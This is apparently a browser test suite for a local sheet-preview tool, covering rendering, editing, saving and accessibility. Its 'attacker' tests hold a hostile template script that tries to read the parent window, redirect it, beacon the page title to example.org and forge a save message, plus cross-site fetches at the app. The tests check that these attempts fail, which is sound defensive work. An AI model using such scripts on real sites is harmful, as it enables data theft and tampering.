/** A preview in a real browser: what is seen, that it stays where it was, what is typed, and what an attacker gets. */
import { readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { AxeBuilder } from "@axe-core/playwright";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasChromium } from "../support/outside.js";
import { SHEET } from "../support/project.js";
import { serve } from "./served.js";
import { FILE, LONG, type Opened, open, pdfText, SLUG, says, shown } from "./window.js";

describe.skipIf(!hasChromium)("in a browser, a preview", () => {
  it("shows PDF and page side by side, without a fault and without asking another machine", async () => {
    const { page, faults, strangers } = await open();
    await says(page, "Both wake you up.");
    await pdfText(page).waitFor();
    const inked = await page.evaluate(() => {
      const canvas = document.querySelector<HTMLCanvasElement>(".sheet-page canvas")!;
      const { data } = canvas.getContext("2d")!.getImageData(0, 0, canvas.width, canvas.height);
      return data.filter((value, i) => i % 4 === 0 && value < 128).length;
    });
    expect(inked).toBeGreaterThan(1000);
    await page.locator(".cm-content").filter({ hasText: "title:" }).waitFor();
    expect(faults).toEqual([]);
    expect(strangers).toEqual([]);
  });

  it("keeps scroll and zoom over fifty saves", async () => {
    const { root, page } = await open();
    const text = readFileSync(join(root, FILE), "utf8");
    await pdfText(page).waitFor();
    await page.getByRole("button", { name: "Larger PDF" }).click();
    await page.getByRole("button", { name: "Larger PDF" }).click();
    const width = () => page.evaluate(() => document.querySelector<HTMLElement>(".sheet-page")!.style.width);
    await page.waitForTimeout(300);
    const zoomed = await width();
    const frame = await says(page, "Both wake you up.");
    await frame.evaluate(() => scrollTo(0, 333));
    await page.evaluate(() => document.querySelector('section[data-view="pdf"] .view')!.scrollTo(40, 77));
    await page.waitForTimeout(200);
    for (let i = 0; i < 50; i++) {
      writeFileSync(join(root, FILE), text.replace("Drunk slowly", `Drunk ${i} times`));
      await says(page, `Drunk ${i} times`);
    }
    await page.waitForTimeout(500);
    expect(await (await shown(page)).evaluate(() => scrollY)).toBe(333);
    expect(await width()).toBe(zoomed);
    const view = page.locator('section[data-view="pdf"] .view');
    expect(await view.evaluate(({ scrollTop, scrollLeft }) => [Math.round(scrollTop), Math.round(scrollLeft)])).toEqual(
      [77, 40],
    );
  });

  it("writes what is saved on a page that was ready for it: the same document as at its address, whose links lead where they do there", async () => {
    const { root, page, faults } = await open({}, { canEdit: false });
    await says(page, "Both wake you up.");
    await page.locator('iframe[src$="?stage"][data-next]').first().waitFor({ state: "attached" });
    await page.waitForTimeout(300);
    writeFileSync(join(root, FILE), (SHEET + LONG).replace("Drunk slowly", "Sipped"));
    const frame = await says(page, "Sipped");
    expect(frame.url()).toMatch(/\/html\/tea-vs-coffee\.html\?stage$/);
    const source = () => document.documentElement.outerHTML;
    const written = await frame.evaluate(source);
    const mode = await frame.evaluate(() => document.compatMode);
    const targets = () => Array.from(document.links, ({ href }) => href.replace("?stage", ""));
    const links = await frame.evaluate(targets);
    await page.evaluate(
      ([address, name]) => {
        const frame = document.createElement("iframe");
        Object.assign(frame, { name, src: address, title: "loaded" });
        document.body.append(frame);
      },
      [frame.url().replace("?stage", ""), '{"scroll":0,"scheme":"light"}'] as const,
    );
    const other = (await (await page.waitForSelector('iframe[title="loaded"]')).contentFrame())!;
    await other.getByText("Sipped").waitFor({ state: "attached" });
    await expect.poll(() => other.evaluate(source)).toBe(written);
    expect(mode).toBe("CSS1Compat");
    expect(links).not.toEqual([]);
    expect(await other.evaluate(targets)).toEqual(links);
    // Loaded anew by its menu, it is what it was.
    await frame.evaluate(() => location.reload());
    await expect.poll(() => frame.url()).toMatch(/\/html\/tea-vs-coffee\.html$/);
    await says(page, "Sipped");
    expect(faults).toEqual([]);
  });

  it("tells errors over the last good sheet, until they are mended", async () => {
    const { root, page } = await open();
    await says(page, "Both wake you up.");
    writeFileSync(join(root, FILE), SHEET.replace("table:", "tabel:"));
    await page.getByText('did you mean "table"?').waitFor();
    expect(await page.locator("body.stale").count()).toBe(1);
    expect(await (await shown(page)).locator("body").textContent()).toContain("Both wake you up.");
    writeFileSync(join(root, FILE), SHEET);
    await page.locator("#problems").waitFor({ state: "hidden" });
    expect(await page.locator("body.stale").count()).toBe(0);
  });

  it("leads from a text of the page or the PDF to its key, and shows where the cursor is", async () => {
    const { page } = await open();
    await page.locator(".cm-content").filter({ hasText: "title:" }).waitFor();
    const frame = await says(page, "Both wake you up.");
    const line = () => page.locator(".cm-activeLine").textContent();
    await frame.getByText("Drunk slowly").click();
    await expect.poll(line).toContain("points: [Brewed from leaves, Drunk slowly]");
    await page.locator(".sheet-page .spot").first().waitFor();
    expect(await frame.locator("div[aria-hidden]").count()).toBe(1);
    const spot = (await page.locator(".sheet-page .spot").first().boundingBox())!;
    await frame.getByText("Both wake you up.").click();
    await expect.poll(line).toContain("intro:");
    await page.mouse.click(spot.x + spot.width / 2, spot.y + spot.height / 2);
    await expect.poll(line).toContain("Drunk slowly");
  });

  it("shows what is typed, saves it with Ctrl-S, and keeps both texts where somebody else was quicker", async () => {
    const { root, page } = await open();
    await page.locator(".cm-content").filter({ hasText: "title:" }).waitFor();
    const frame = await says(page, "Both wake you up.");
    await frame.getByText("Both wake you up.").click();
    await expect.poll(() => page.locator(".cm-activeLine").textContent()).toContain("intro:");
    await page.keyboard.press("End");
    await page.keyboard.type(" Really.");
    await says(page, "Really.");
    expect(readFileSync(join(root, FILE), "utf8")).toBe(SHEET + LONG);
    await page.keyboard.press("Control+s");
    await page.getByText("saved", { exact: true }).waitFor();
    expect(readFileSync(join(root, FILE), "utf8")).toBe((SHEET + LONG).replace("wake you up.", "wake you up. Really."));
    await page.keyboard.type(" Mine.");
    await says(page, "Mine.");
    writeFileSync(join(root, FILE), `${SHEET}# theirs\n`);
    await page.getByRole("alert").filter({ hasText: "has changed on the disk" }).waitFor();
    await page.keyboard.press("Control+s");
    expect(readFileSync(join(root, FILE), "utf8")).toBe(`${SHEET}# theirs\n`);
    expect(await page.locator(".trouble pre").textContent()).toContain("# theirs");
    await page.getByRole("button", { name: "Save mine over it" }).click();
    await expect.poll(() => readFileSync(join(root, FILE), "utf8")).toContain("Really. Mine.");
  });

  it("keeps the text of a file that is gone", async () => {
    const { root, page } = await open();
    await page.locator(".cm-content").filter({ hasText: "title:" }).click();
    await says(page, "Both wake you up.");
    await page.keyboard.press("Control+Home");
    await page.keyboard.type("# mine\n");
    await page.getByText("not saved").waitFor();
    rmSync(join(root, FILE));
    await page.getByText("gone").first().waitFor();
    await page.keyboard.press("Control+s");
    await page.getByRole("button", { name: "Copy my text" }).waitFor();
    expect(await page.locator(".cm-content").textContent()).toContain("# mine");
  });

  it("completes keys, and says what they are for", async () => {
    const { page } = await open();
    await page.locator(".cm-content").filter({ hasText: "title:" }).click();
    await page.keyboard.press("Control+End");
    await page.keyboard.type("tableN");
    await page.locator(".cm-tooltip-autocomplete").getByText("tableNote").waitFor();
    // What has only just come up isn't taken by a key that was meant for something else.
    await page.waitForTimeout(200);
    await page.keyboard.press("Enter");
    await expect.poll(() => page.locator(".cm-activeLine").textContent()).toBe("tableNote: ");
  });

  it("finds sheets by the keyboard alone, and follows links between them", async () => {
    const { page } = await open({ [FILE]: `${SHEET}related: [milk-vs-water]\n` });
    const frame = await says(page, "Both wake you up.");
    await frame.getByRole("link", { name: "Milk vs Water" }).first().click();
    await page.getByRole("heading", { name: "Milk vs Water", level: 1 }).waitFor();
    await page.goBack();
    await page.getByRole("heading", { name: "Tea vs Coffee", level: 1 }).waitFor();
    await page.locator('.sheet-page a[title="./milk-vs-water.pdf"]').first().click();
    await page.getByRole("heading", { name: "Milk vs Water", level: 1 }).waitFor();
    await page.keyboard.press("Control+k");
    await page.keyboard.type("tea");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Tea vs Coffee", level: 1 }).waitFor();
  });

  it("shows the new PDF where the window changes its size while it comes", async () => {
    const { root, page } = await open();
    await pdfText(page).waitFor();
    let asked = () => {};
    const wasAsked = new Promise<void>((done) => (asked = done));
    let answer = () => {};
    const mayAnswer = new Promise<void>((done) => (answer = done));
    await page.route("**/pdf?*", async (route) => {
      asked();
      await mayAnswer;
      await route.continue();
    });
    writeFileSync(join(root, FILE), `${SHEET}related: [milk-vs-water]\n`);
    await wasAsked;
    await page.setViewportSize({ width: 1100, height: 700 });
    await page.waitForTimeout(300);
    answer();
    await page.locator('.sheet-page a[title="./milk-vs-water.pdf"]').first().waitFor();
  });

  it("draws of ten thousand sheets those alone that can be seen", async () => {
    const { page } = await open();
    await page.locator(".row").first().waitFor();
    const many = Array.from({ length: 10_000 }, (_, i) => ({
      slug: `s-${i}`,
      title: `Sheet ${i}`,
      errors: i === 9_000 ? 1 : 0,
      warnings: 0,
    }));
    await page.route("**/events?*", (route) =>
      route.fulfill({ contentType: "text/event-stream", body: `event: sheets\ndata: ${JSON.stringify(many)}\n\n` }),
    );
    await page.evaluate(() => (location.hash = "s-1"));
    await page.getByText("10000 sheets, 1 with errors").waitFor();
    expect(await page.locator(".row").first().textContent()).toContain("Sheet 9000");
    expect(await page.locator(".row").count()).toBeLessThan(60);
  });

  it("says that the connection is lost, and that it is there again", async () => {
    const { root, served, page } = await open();
    await says(page, "Both wake you up.");
    await served.end();
    await page.getByText("Connection lost").waitFor();
    writeFileSync(join(root, FILE), SHEET.replace("Both wake", "Both will wake"));
    await serve(root, { port: Number(new URL(served.url).port) });
    await says(page, "Both will wake you up.");
    expect(await page.getByText("Connection lost").count()).toBe(0);
    await page.locator(".cm-content").filter({ hasText: "title:" }).click();
    await page.keyboard.press("Control+Home");
    await page.keyboard.type("# new\n");
    await page.keyboard.press("Control+s");
    await expect.poll(() => readFileSync(join(root, FILE), "utf8")).toMatch(/^# new\n/);
  });

  it("draws the PDF sharply at any size, with links that lead on", async () => {
    const { page } = await open({ [FILE]: `${SHEET}sources:\n  - {title: A book, url: "https://example.org/book"}\n` });
    await pdfText(page).waitFor();
    await page.locator('.sheet-page a[href="https://example.org/book"]').first().waitFor();
    for (let i = 0; i < 10; i++) await page.getByRole("button", { name: "Larger PDF" }).click();
    await page.locator(".sheet-page .sharp").waitFor();
    const ratio = await page.evaluate(() => {
      const canvas = document.querySelector<HTMLCanvasElement>(".sheet-page .sharp")!;
      return canvas.width / canvas.getBoundingClientRect().width;
    });
    expect(ratio).toBeCloseTo(1, 2);
  });

  it("leaves the PDF to the browser where there is no WebAssembly", async () => {
    const { page } = await open({}, { before: "delete globalThis.WebAssembly" });
    await page.locator('section[data-view="pdf"] iframe[title="The PDF"]').waitFor({ state: "attached" });
  });

  it.each(["light", "dark"] as const)(
    "has nothing that axe finds, in %s colours, with problems and without",
    async (colorScheme) => {
      const { root, page } = await open({}, { colorScheme });
      await page.locator(".cm-content").filter({ hasText: "title:" }).waitFor();
      await says(page, "Both wake you up.");
      await page.getByRole("button", { name: "Fit", exact: true }).click();
      await page.locator(".fit li").first().waitFor();
      const check = async () => (await new AxeBuilder({ page }).exclude("iframe").analyze()).violations;
      expect((await check()).map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
      writeFileSync(join(root, FILE), SHEET.replace("table:", "tabel:"));
      await page.locator("#problems pre").waitFor();
      expect((await check()).map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
    },
  );

  it("says how to begin where there is no content", async () => {
    const { root, page } = await open();
    renameSync(join(root, "content"), join(root, "elsewhere"));
    await page.getByText('versus new "Sales" "Marketing"').waitFor();
    await page.getByText("versus import").waitFor();
    renameSync(join(root, "elsewhere"), join(root, "content"));
    await says(page, "Both wake you up.");
  });

  it("has no editor with --no-edit", async () => {
    const { page } = await open({}, { canEdit: false });
    await says(page, "Both wake you up.");
    expect(await page.locator(".cm-content").count()).toBe(0);
  });
});

describe.skipIf(!hasChromium)("an attacker", () => {
  let site: Server;
  beforeAll(async () => {
    site = createServer((_, response) => response.end("<!DOCTYPE html><title>evil</title>"));
    await new Promise<void>((done) => site.listen(0, "127.0.0.1", done));
  });
  afterAll(() => site?.close());

  it("on another site reads and writes nothing", async () => {
    const { root, served, page } = await open();
    await says(page, "Both wake you up.");
    await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
    const gained = await page.evaluate(
      async ([app, frame, file]) => {
        const tried = [
          () => fetch(app!),
          () => fetch(`${app}file?file=${file}`),
          () => fetch(`${frame}html/tea-vs-coffee.html`),
          () => fetch(`${app}save`, { method: "POST", body: JSON.stringify({ file, text: "x", hash: "" }) }),
        ];
        const got: string[] = [];
        for (const each of tried)
          await each()
            .then((response) => response.text())
            .then(
              (text) => got.push(text),
              () => {},
            );
        return got;
      },
      [served.url, served.frame, FILE],
    );
    expect(gained).toEqual([]);
    expect(readFileSync(join(root, FILE), "utf8")).toBe(SHEET + LONG);
  });

  it("who wrote a template reaches neither the editor, nor another machine, nor the window", async () => {
    const template = readFileSync("templates/page.hbs", "utf8").replace(
      "</main>",
      `</main><p id="loot"></p><script>
      (async function () {
        var loot = [];
        var app = document.referrer || "http://127.0.0.1:" + (Number(location.port) - 1) + "/";
        try { loot.push(parent.document.title); } catch (error) {}
        try { loot.push(await (await fetch(app)).text()); } catch (error) {}
        try { loot.push(await (await fetch("https://example.org/")).text()); } catch (error) {}
        try { top.location = "https://example.org/"; } catch (error) {}
        new Image().src = "https://example.org/?" + document.title;
        parent.postMessage({ versus: "save", file: "${FILE}", text: "x" }, "*");
        document.getElementById("loot").textContent = "loot: " + loot.length;
      })();
      </script>`,
    );
    const root = { "templates/page.hbs": template };
    const { page, strangers } = await withTemplates(root);
    await says(page, "loot: 0");
    await page.waitForTimeout(200);
    expect(strangers.filter((url) => !url.startsWith("https://example.org/?"))).toEqual([]);
    expect(await page.title()).toContain("Tea vs Coffee");
  });

  it("whose page never comes to an end holds up its own frame, and nothing else", async () => {
    const template = readFileSync("templates/page.hbs", "utf8").replace(
      "</main>",
      "</main><script>while (true) {}</script>",
    );
    const { page } = await withTemplates({ "templates/page.hbs": template });
    await page.locator(".sheet-page canvas").first().waitFor();
    await page.keyboard.press("Control+k");
    await page.keyboard.type("milk");
    await page.getByText("1 of 2 sheets").waitFor();
  });

  async function withTemplates(files: Readonly<Record<string, string>>): Promise<Opened> {
    const opened = await open(files, { canEdit: false });
    await opened.served.end();
    const served = await serve(opened.root, { templates: "templates" });
    opened.faults.length = 0;
    await opened.page.goto(`${served.url}#${SLUG}`);
    return { ...opened, served };
  }
});
